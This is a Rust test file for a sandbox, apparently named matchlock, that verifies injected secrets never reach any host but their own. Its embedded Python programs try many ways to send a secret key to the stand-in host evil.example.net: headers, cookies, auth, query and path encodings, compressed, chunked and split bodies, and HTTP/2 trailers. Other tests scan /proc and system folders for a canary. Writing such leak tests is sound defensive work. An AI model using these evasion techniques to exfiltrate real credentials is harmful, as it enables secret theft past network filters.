//! Where placeholders and values must never be.

use std::path::Path;

use matchlock_testkit::PATIENCE;
use serde_json::json;

use crate::lab::{API, EVIL, H2, NetLab};
use crate::secrets::{SECRET, SENDING};

cases![
    a_placeholder_leaves_for_no_other_host_in_any_form,
    a_placeholder_leaves_for_no_other_host_over_http2,
    the_value_is_nowhere_but_at_its_server,
    each_sandbox_has_an_authority_of_its_own_whose_key_is_nowhere,
];

fn a_placeholder_leaves_for_no_other_host_in_any_form() {
    let lab = NetLab::new();
    let program = format!(
        "{SENDING}{}",
        r"
with open('/tmp/gz', 'wb') as file:
    file.write(gzip.compress(f'key={key}'.encode()))
with open('/tmp/deflate', 'wb') as file:
    file.write(zlib.compress(f'key={key}'.encode()))
with open('/tmp/large', 'w') as file:
    file.write('x' * 65530 + key + 'y' * 70000)
chunked = ['-H', 'Transfer-Encoding: chunked']
cases = {
    'header': ['-H', f'X-Odd: {key}', EVIL + '/header'],
    'inside a header': ['-H', f'X-Odd: aa{key}bb', EVIL + '/inside'],
    'user agent': ['-A', key, EVIL + '/agent'],
    'cookie': ['-b', f's={key}', EVIL + '/cookie'],
    'basic': ['-u', f'user:{key}', EVIL + '/basic'],
    'basic user': ['-u', f'{key}:', EVIL + '/basic-user'],
    'unpadded basic': ['-H', basic(f'us:{key}').rstrip('='), EVIL + '/unpadded'],
    'proxy basic': ['-H', 'Proxy-' + basic(f'us:{key}'), EVIL + '/proxy'],
    'query': [f'{EVIL}/query?key={key}'],
    'percent': [f'{EVIL}/percent?key={encoded}'],
    'path': [f'{EVIL}/path/{key}'],
    'percent path': [f'{EVIL}/path/{encoded}'],
    'half percent path': [f'{EVIL}/path/%53{key[1:]}'],
    'body': ['-d', f'key={key}', EVIL + '/body'],
    'json': ['--json', json.dumps({'key': key}), EVIL + '/json'],
    'multipart': ['-F', f'key={key}', EVIL + '/multipart'],
    'chunked body': [*chunked, '-d', f'key={key}', EVIL + '/chunked'],
    'large body': ['-H', 'Expect:', '--data-binary', '@/tmp/large', EVIL + '/large'],
    'gzip body': ['-H', 'Content-Encoding: gzip', '--data-binary', '@/tmp/gz', EVIL + '/gzip-body'],
    'deflate body': ['-H', 'Content-Encoding: deflate', '--data-binary', '@/tmp/deflate', EVIL + '/deflate-body'],
    'plain http': ['-H', f'X-Odd: {key}', 'http://evil.example.net/plain'],
}
for name, arguments in cases.items():
    seen[name] = status(arguments[-1], *arguments[:-1])
seen['base64 body'] = status(EVIL + '/base64', '-d', base64.b64encode(key.encode()).decode())

# In two parts, of a body and of a chunk.
def split(first, second):
    stream = tls('evil.example.net', 443, 'evil.example.net')
    stream.sendall(first)
    time.sleep(0.3)
    try:
        stream.sendall(second)
        return read_all(stream)[9:12].decode() or 'closed'
    except OSError:
        return 'closed'

head = 'POST /split HTTP/1.1\r\nHost: evil.example.net\r\n'
seen['two parts'] = outcome(lambda: split(
    f'{head}Content-Length: {len(key)}\r\n\r\n{key[:20]}'.encode(), key[20:].encode()))
parts = ''.join(f'1\r\n{c}\r\n' for c in key)
seen['many chunks'] = outcome(lambda: split(
    f'{head}Transfer-Encoding: chunked\r\n\r\n'.encode(), f'{parts}0\r\n\r\n'.encode()))
trailer = f'{head}Transfer-Encoding: chunked\r\nTrailer: x\r\n\r\n'.encode()
seen['trailer'] = outcome(lambda: split(trailer, f'0\r\nx: {key}\r\n\r\n'.encode()))
seen['key'] = key
"
    );
    let secret = format!("KEY={SECRET}@{API}");
    let mut seen = lab.python(&["--secret", &secret, "--allow-host", EVIL], &program, &[]);
    let key = seen["key"].as_str().expect("text").to_owned();
    let object = seen.as_object_mut().expect("an object");
    object.remove("key");
    for (case, got) in object.iter() {
        assert_eq!(got, "403", "{case} in {object:?}");
    }
    for request in lab.origin.requests() {
        let text = format!("{request:?}");
        assert!(!text.contains(&key) && !text.contains(SECRET), "{text}");
        assert!(!String::from_utf8_lossy(&request.body).contains(&key), "{}", request.target);
        assert_eq!(request.body_sha256, None, "no body of these is complete: {}", request.target);
    }
    let leaks = lab.events("secret_leak");
    assert_eq!(leaks.len(), object.len(), "{leaks:?}");
    assert!(leaks.iter().all(|leak| leak["secret"] == "KEY"), "{leaks:?}");
    let trail = std::fs::read_to_string(lab.path("audit.jsonl")).expect("read");
    assert!(!trail.contains(SECRET));
}

fn a_placeholder_leaves_for_no_other_host_over_http2() {
    let lab = NetLab::new();
    let program = format!(
        "{H2}{SENDING}{}",
        r"
def send(host, path='/x', *more, body=None, trailers=None):
    session = h2(host, host)
    fields = [(':method', 'POST'), (':scheme', 'https'), (':path', path), (':authority', host)]
    try:
        session.request(1, [*fields, *more], end=body is None and trailers is None)
        for part in body or ():
            session.stream.sendall(frame(0, 0, 1, part))
            time.sleep(0.1)
        if trailers:
            session.stream.sendall(frame(1, 5, 1, literal(*trailers)))
        elif body is not None:
            session.stream.sendall(frame(0, 1, 1, b''))
    except OSError:
        pass
    return session.answer(1)

own, other, half = 'api.example.com', 'evil.example.net', len(key) // 2
value = basic(f'us:{key}').split(': ')[1]
wire = key.encode()
seen['leaks'] = {
    'header': send(other, '/x', ('x-odd', f'a{key}b')),
    'basic': send(other, '/x', ('authorization', value)),
    'cookie': send(other, '/x', ('cookie', 'a=b'), ('cookie', f'c={key}')),
    'path': send(other, f'/{key}'),
    'query': send(other, f'/x?{encoded}'),
    'body': send(other, body=[wire]),
    'split body': send(other, body=[b'x' * 1000 + wire[:half], wire[half:] + b'y']),
    'bytes': send(other, body=[wire[:1], wire[1:2], wire[2:]]),
    'trailers': send(other, body=[b'x'], trailers=('x-odd', key)),
}
seen['key'] = key
seen['own'] = send(own, f'/own?{key}', ('x-odd', key), ('authorization', value))
"
    );
    let secret = format!("KEY={SECRET}@{API}");
    let seen = lab.python(&["--secret", &secret, "--allow-host", EVIL], &program, &[]);
    for (case, got) in seen["leaks"].as_object().expect("an object") {
        let got = got.as_str().expect("text");
        assert!(got == "403" || got.starts_with("reset"), "{case}: {seen}");
    }
    assert_eq!(seen["own"], "200", "{seen}");
    let requests = lab.origin.requests();
    let key = seen["key"].as_str().expect("text");
    let (own, others): (Vec<_>, Vec<_>) =
        requests.into_iter().partition(|request| request.authority.as_deref() == Some(API));
    for request in others {
        assert_eq!(request.body_sha256, None, "none is complete: {request:?}");
        assert!(!format!("{request:?}").contains(key), "{request:?}");
        // The start of one that came in parts is not one.
        assert!(!String::from_utf8_lossy(&request.body).contains(key));
    }
    assert_eq!(own.len(), 1);
    assert_eq!(own[0].target, format!("/own?{SECRET}"));
    assert_eq!(own[0].header("x-odd"), Some(SECRET));
    assert_eq!(own[0].header("authorization"), Some("Basic dXM6c2stbGl2ZS01ZjJjODFkMDlh"));
    assert_eq!(lab.events("secret_leak").len(), 9);
}

fn the_value_is_nowhere_but_at_its_server() {
    const CANARY: &str = "canary-7d1e0b55c9-value";
    let lab = NetLab::new();
    // A program with every privilege sees it no more than others.
    let flags = ["--secret", "KEY@api.example.com", "--json", "--privileged"];
    let program = r"
key = os.environ['KEY']
canary = sys.argv[1] + '-' + 'value'

def holders():
    found = []
    for folder in os.listdir('/proc'):
        if not folder.isdigit():
            continue
        for part in ('environ', 'cmdline'):
            try:
                with open(f'/proc/{folder}/{part}', 'rb') as file:
                    if canary.encode() in file.read() and folder != str(os.getpid()):
                        found.append(f'{folder}/{part}')
            except OSError:
                pass
    return found

seen['processes'] = holders()
seen['status'] = status('https://api.example.com/', '-H', f'Authorization: Bearer {key}')
seen['wrong'] = status('https://evil.example.net/', '-H', f'Authorization: Bearer {key}')
seen['refused'] = status('https://api.example.com:81/', '-H', f'Authorization: Bearer {key}')
places = ['/etc', '/run', '/tmp', '/root', '/home', '/var/tmp', '/var/log', '/dev/shm', '/sys/firmware',
          '/proc/cmdline', '/proc/keys', '/proc/bootconfig', '/proc/self/mountinfo']
done = subprocess.run(['grep', '-rIlsF', '-D', 'skip', '-e', canary, *places], capture_output=True)
seen['files'] = done.stdout.decode()
dmesg = subprocess.run(['dmesg'], capture_output=True).stdout
seen['kernel'] = canary.encode() in dmesg
seen['processes after'] = holders()
";
    let invocation = lab.program(&flags, program, &["canary-7d1e0b55c9"]);
    let running = invocation.env("KEY", CANARY).spawn();
    let pid = running.pid();
    let mut shown = Vec::new();
    // What other users of the host can see of us and of the VMM.
    while Path::new(&format!("/proc/{pid}/cmdline")).exists() && lab.origin.requests().is_empty() {
        shown = command_lines();
        if shown.iter().any(|line| line.contains(CANARY)) {
            break;
        }
        std::thread::yield_now();
    }
    assert!(!shown.iter().any(|line| line.contains(CANARY)), "{shown:?}");
    let home: Vec<_> = files(lab.home());
    for file in &home {
        let text = std::fs::read(file).unwrap_or_default();
        assert!(!contains(&text, CANARY), "{}", file.display());
    }
    let finished = running.finish(PATIENCE).expect(0);
    assert!(!finished.out().contains(CANARY) && !finished.err().contains(CANARY));
    let seen: serde_json::Value = serde_json::from_str(&finished.out()).expect("JSON");
    assert_eq!(
        seen,
        json!({
            "processes": [], "status": "200", "wrong": "curl 6", "refused": "curl 7", "files": "",
            "kernel": false, "processes after": [],
        })
    );
    for file in files(lab.home()) {
        let text = std::fs::read(&file).unwrap_or_default();
        assert!(!contains(&text, CANARY), "{}", file.display());
    }
    let trail = std::fs::read(lab.path("audit.jsonl")).expect("read");
    assert!(!contains(&trail, CANARY));
    assert_eq!(lab.origin.last().header("authorization"), Some(&*format!("Bearer {CANARY}")));
}

fn each_sandbox_has_an_authority_of_its_own_whose_key_is_nowhere() {
    let program = r"
with open('/etc/ssl/certs/matchlock-ca.crt') as file:
    seen['authority'] = file.read()
places = ['/etc/ssl', '/run', '/tmp', '/root', '/dev/shm']
done = subprocess.run(['grep', '-rIlsF', '-D', 'skip', '-e', 'PRIVATE KEY--', *places],
                      capture_output=True)
seen['keys'] = done.stdout.decode()
stream = tls('api.example.com', 443, 'api.example.com')
certificate = stream.getpeercert()
seen['names'] = sorted(name for _, name in certificate['subjectAltName'])
for name in ('evil.example.net', 'www.example.com', 'example.com'):
    seen[name] = outcome(lambda: tls('api.example.com', 443, name) and 'issued')
";
    let made = || {
        let lab = NetLab::new();
        let running = lab.program(&["--allow-host", API], program, &[]).spawn();
        let seen: serde_json::Value =
            serde_json::from_str(&running.finish(PATIENCE).expect(0).out()).expect("JSON");
        assert_eq!((&seen["keys"], &seen["names"]), (&json!(""), &json!([API])), "{seen}");
        for other in [EVIL, "www.example.com", "example.com"] {
            assert!(seen[other].to_string().contains("tls: "), "{other}: {seen}");
        }
        for file in files(lab.home()) {
            let bytes = std::fs::read(&file).unwrap_or_default();
            assert!(!contains(&bytes, "PRIVATE KEY--"), "{}", file.display());
        }
        seen["authority"].as_str().expect("text").to_owned()
    };
    let (one, other) = (made(), made());
    assert!(one.starts_with("-----BEGIN CERTIFICATE-----") && one != other, "{one}");
}

fn contains(bytes: &[u8], text: &str) -> bool {
    bytes.windows(text.len()).any(|window| window == text.as_bytes())
}

/// The command lines of all processes.
fn command_lines() -> Vec<String> {
    let processes = std::fs::read_dir("/proc").expect("processes").flatten();
    let lines = processes.filter_map(|entry| std::fs::read(entry.path().join("cmdline")).ok());
    lines.map(|line| String::from_utf8_lossy(&line).into_owned()).collect()
}

fn files(folder: &Path) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
        let path = entry.path();
        match entry.file_type() {
            Ok(kind) if kind.is_dir() => found.extend(files(&path)),
            Ok(kind) if kind.is_file() => found.push(path),
            _ => {}
        }
    }
    found
}
